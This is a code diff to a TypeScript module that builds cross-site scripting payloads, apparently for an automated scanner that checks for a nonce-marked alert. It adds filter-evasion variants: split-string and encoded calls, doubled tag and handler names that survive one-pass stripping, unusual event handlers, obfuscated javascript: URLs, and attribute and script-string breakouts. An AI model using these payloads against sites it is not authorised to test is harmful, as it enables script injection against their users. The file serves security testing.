@@ -6,8 +6,19 @@ export type Payload = { value: string; clicks?: string[] };
 /** Calls without quotes, since those are what is most often escaped: with parentheses, and without. */
 const call = 'alert(/‹nonce›/.source)';
 const bareCall = 'alert`‹nonce›`';
-/** Filters that list words know the commonest call. */
+/** Filters that list words know the commonest calls. */
 const otherCall = 'confirm`‹nonce›`';
+const spelledCall = 'self[/al/.source+/ert/.source](/‹nonce›/.source)';
+/** Neither parentheses nor backticks. */
+const addressCall = 'location=/javascript:alert%28%27‹nonce›%27%29/.source';
+
+/** Code without letters of its own: decimal references are characters again in a handler, and have no upper case. */
+const inReferences = (code: string): string =>
+  code
+    .split('‹nonce›')
+    .map((part) => part.replace(/./gsu, (sign) => `&#${sign.codePointAt(0)};`))
+    .join('‹nonce›');
+const upperCall = inReferences('alert(/‹nonce›/.source.toLowerCase())');
 
 /** Markup that runs by itself, each way past another habit of filters. */
 const markup: Payload[] = [
@@ -29,6 +40,24 @@ const markup: Payload[] = [
   { value: `<a href=javascript:${call}>‹nonce›</a>`, clicks: ['a[href*="‹nonce›"]'] },
   // decoded once more by the application
   { value: `%3Csvg onload=${call}%3E` },
+  // all in upper case, or without the signs of a call
+  { value: `<svg onload=${upperCall}>` },
+  { value: `<svg onload=${addressCall}>` },
+  // words that are taken out once
+  { value: `<sscriptcript>${call}</sscriptcript>` },
+  { value: `<svg ononload=load=${call}>` },
+  // lists of tags, handlers and calls
+  { value: `<svg\fonload=${spelledCall}>` },
+  { value: `<body onpageshow=${call}>` },
+  { value: `<input autofocus onfocusin=${otherCall}>` },
+  { value: `<b tabindex=1 autofocus onfocus=${call}>‹nonce›</b>` },
+  { value: `<audio src onerror=${call}>` },
+  { value: `<iframe src=javascript:parent.${call}>` },
+  { value: `<style>@keyframes k{}</style><b style=animation-name:k onanimationend=${call}>‹nonce›</b>` },
+  {
+    value: `<form><button formaction=javascript:${call}>‹nonce›</button></form>`,
+    clicks: ['button[formaction*="‹nonce›"]'],
+  },
 ];
 
 const after = (prefix: string, payloads: readonly Payload[]): Payload[] =>
@@ -61,6 +90,10 @@ function attributePayloads(quote: '"' | "'" | ''): Payload[] {
     // without angle brackets: the element itself gets a handler and the focus
     { value: `${out} tabindex=1 autofocus onfocus=${call} x=${quote}` },
     { value: `${out}/tabindex=1/autofocus/onfocus=${bareCall}/x=${quote}` },
+    { value: `${out} tabindex=1 autofocus onfocusin=${otherCall} x=${quote}` },
+    { value: `${out} tabindex=1 autofocus onfocus=${upperCall} x=${quote}` },
+    // what cannot have the focus, as a hidden field
+    { value: `${out} oncontentvisibilityautostatechange=${call} style=content-visibility:auto x=${quote}` },
   ];
 }
 
@@ -79,12 +112,20 @@ function urlPayloads({ element, attribute }: Reflection & { kind: 'url' }): Payl
       : element === 'iframe' || element === 'embed' || element === 'object'
         ? []
         : [`${element}${address}`];
-  return [`javascript:${call}`, `JaVaScRiPt:${call}`, `java\tscript:${call}`, `\u0001javascript:${bareCall}`].map(
-    (value) => ({
-      value,
-      clicks,
-    }),
-  );
+  return [
+    `javascript:${call}`,
+    `JaVaScRiPt:${call}`,
+    `java\tscript:${call}`,
+    `\u0001javascript:${bareCall}`,
+    // taken out once; written as a reference; has to have an address in it
+    `javajavascriptscript:${call}`,
+    `javascript&colon;${call}`,
+    `javascript:${call}//https://`,
+    `javascript:${spelledCall}`,
+  ].map((value) => ({
+    value,
+    clicks,
+  }));
 }
 
 function scriptBreakouts(state: (Reflection & { kind: 'script' })['state']): Payload[] {
@@ -94,6 +135,9 @@ function scriptBreakouts(state: (Reflection & { kind: 'script' })['state']): Pay
       return [
         { value: `${state}-${call}-${state}` },
         { value: `${state}-${bareCall}-${state}` },
+        { value: `${state}+${otherCall}+${state}` },
+        { value: `${state}+${spelledCall}+${state}` },
+        { value: `${state};${addressCall};${state}` },
         // the quote is escaped, the backslash is not: end what the string stands in, and leave the rest out
         ...['-', ');', '};', '];', '});'].map((end) => ({ value: `\\${state}${end}${call}//` })),
         { value: `${state});${call}//` },
